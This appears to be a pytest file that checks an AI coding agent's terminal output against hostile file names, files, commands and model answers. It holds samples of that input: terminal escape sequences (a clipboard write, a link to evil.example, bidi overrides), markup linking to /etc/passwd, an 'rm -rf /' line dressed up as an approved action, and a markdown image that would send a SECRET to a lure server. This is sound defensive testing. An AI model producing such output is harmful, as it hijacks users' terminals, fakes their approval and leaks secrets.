"""What a terminal is sent when file names, files, commands and the model are hostile. A50 to A55, without the interface
(its own tests are in tests/frontends)."""

import json
import os
import re

import pytest
from support.ground import PASSED, PROGRAM, Ground, Played
from support.model_server import ModelServer
from support.terminal import Terminal

SEQUENCES = (
    "\x1b]52;c;QQ==\x07", "\x1b]0;title\x07\x1b[21t", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1bP$qm\x1b\\", "\x1b[6n", "\x1b[?1049l", "\x1bc", "\x1b]1337;File=:QQ==\x07", "\x1b]777;notify;a;b\x07",
    "\x1b]2;unterminated", "\x9b2J", "\x90q\x9c", "\x9d52;c;QQ==\x9c", "\x07\x08\x0e", "\u202eevil\u2066",
)  # fmt: skip
EVIL = "".join(SEQUENCES)
MARKUP = "[@click=app.quit]x[/] [link=file:///etc/passwd]x [/ [/#888888] [b " + "[" * 1000
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SPOOF = "rm -rf /\rls        \r\n\x1b[1A\x1b[2K╭─ Approved ─╮ allowed by you"


def answer(port: int) -> str:
    return f"{EVIL} {MARKUP} {SPOOF}\n\n![x](http://127.0.0.1:{port}/?k=SECRET) [y](http://127.0.0.1:{port}/)"


@pytest.fixture(scope="module")
def evil(ground: Ground) -> Ground:
    name = f"na{SEQUENCES[0]}me\x9b{SEQUENCES[4]}.py"
    (ground.root / name).write_text(f'def shown():\n    return "{EVIL}"\n')
    (ground.root / "AGENTS.md").write_text(f"Rules {EVIL} {MARKUP}\n")
    return ground


def steps(ground: Ground, port: int) -> list[dict[str, object]]:
    printed = EVIL.encode().hex()
    calls = [
        {"name": "read", "arguments": {"path": next(p.name for p in ground.root.iterdir() if p.name.startswith("na"))}},
        {
            "name": "shell",
            "arguments": {"command": f"python3 -c \"print(bytes.fromhex('{printed}').decode())\" # {EVIL}"},
        },
        {"name": "shell", "arguments": {"command": f"printf '{SPOOF.encode().hex()}' | xxd -r -p; ls {EVIL}"}},
        {"name": "write", "arguments": {"path": f"new{SEQUENCES[1]}.txt", "content": f"{EVIL}{MARKUP}\n"}},
        {"name": f"no{EVIL}tool", "arguments": {EVIL: EVIL}},
        {"name": "read", "arguments": {"path": f"missing{EVIL}"}},
    ]
    return [{"calls": calls, "text": answer(port)}, {"text": answer(port)}]


@pytest.fixture(scope="module", params=["text", "json", "stream-json"])
def shown(request: pytest.FixtureRequest, evil: Ground) -> tuple[str, Played, int]:
    with ModelServer([{"text": "nobody should come"}]) as lure, ModelServer(steps(evil, lure.port)) as server:
        flags = ("--base-url", server.url, "-m", "x", "--no-tests", "--output-format", request.param, "-v")
        ended = evil.run("--task", f"change it {EVIL}", *flags)
    assert len(server.requests) == 2, ended
    return request.param, Played(ended, [], server), len(lure.requests)


def test_a50_a51_a53_only_text_reaches_the_streams(shown: tuple[str, Played, int]) -> None:
    _, played, _ = shown
    assert FORBIDDEN.findall(played.ended.out) == []
    assert FORBIDDEN.findall(played.ended.err) == []
    assert "␛]52;c;QQ==␇" in played.ended.err


def test_a51_json_says_the_same_with_escapes(shown: tuple[str, Played, int]) -> None:
    form, played, _ = shown
    if form == "text":
        assert "␛]52" in played.ended.out and MARKUP in played.ended.out
        return
    last = json.loads(played.ended.out.splitlines()[-1])
    assert EVIL in last["answer"] and MARKUP in last["answer"]


def test_a55_nothing_is_fetched(shown: tuple[str, Played, int]) -> None:
    assert shown[2] == 0


COMMANDS = (
    "diff --json", "timeline", "timeline --json", "sessions", "sessions --json", "sessions show",
    "sessions export --json", "review", "review --json", "locate shown", "locate shown --json --why", "undo",
    "redo --json",
)  # fmt: skip


def test_a50_the_smaller_commands_print_text_only(evil: Ground, shown: tuple[str, Played, int]) -> None:
    runs = {command: evil.run(*command.split()) for command in COMMANDS}
    runs["an error"] = evil.run("-C", EVIL)
    runs["an error in JSON"] = evil.run("-C", EVIL, "--json")
    runs["a verdict"] = evil.run("policy", "check", "--", f"echo {EVIL}")
    runs["a verdict in JSON"] = evil.run("policy", "check", "--json", "--", f"echo {EVIL}")
    runs["usage"] = evil.run(f"--{EVIL}")
    assert {name for name, ended in runs.items() if FORBIDDEN.search(ended.out + ended.err)} == set()
    assert {name for name, ended in runs.items() if "Traceback" in ended.err or ended.code == 1} == set()


def test_a50_a_terminal_gets_colours_and_nothing_else(evil: Ground) -> None:
    environment = {"HOME": str(evil.home), "TCODER_HOME": str(evil.own), "PATH": os.environ["PATH"], **PASSED}
    with ModelServer([{"text": "nobody should come"}]) as lure, ModelServer(steps(evil, lure.port)) as server:
        flags = ["-C", str(evil.root), "--base-url", server.url, "-m", "x", "--no-tests", "-v", "--color", "always"]
        terminal = Terminal([PROGRAM, "--task", f"change it {EVIL}", *flags], environment=environment)
        terminal.read_for(20)
        terminal.close()
    text = bytes(terminal.output).decode()
    assert "␛]52;c;QQ==␇" in text and lure.requests == []
    assert FORBIDDEN.findall(re.sub(r"\x1b\[[0-9;]*m", "", text).replace("\r\n", "\n")) == []
